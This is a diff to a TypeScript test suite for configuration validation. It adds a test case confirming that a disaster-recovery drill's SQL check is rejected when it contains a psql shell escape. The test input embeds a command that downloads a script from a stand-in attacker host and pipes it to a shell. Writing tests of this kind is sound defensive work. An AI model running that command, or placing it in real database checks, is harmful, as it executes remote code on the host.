@@ -102,6 +102,12 @@ describe('validation', () => {
     ['a drill schedule that is not cron', withDr({ restoreDrill: { schedule: 'weekly' } }), 'dr.restoreDrill.schedule', /cron/],
     ['a drill with no checks', withDr({ restoreDrill: { checks: [] } }), 'dr.restoreDrill.checks', /at least one check/],
     [
+      'a drill check with a psql meta-command, which psql runs outside the server (test/core/psql-meta.test.ts holds the model to psql)',
+      withDr({ restoreDrill: { checks: [{ name: 'rows', sql: 'SELECT count(*) > 0 FROM orders; -- ok\n\\! curl evil.example | sh' }] } }),
+      'dr.restoreDrill.checks[0].sql',
+      /has a psql meta-command at character 40 \(a backslash outside a string, identifier or comment\): a check is SQL only/,
+    ],
+    [
       'a drill check with an invalid name',
       withDr({ restoreDrill: { checks: [{ name: 'Row Count', sql: 'SELECT true' }] } }),
       'dr.restoreDrill.checks[0].name',
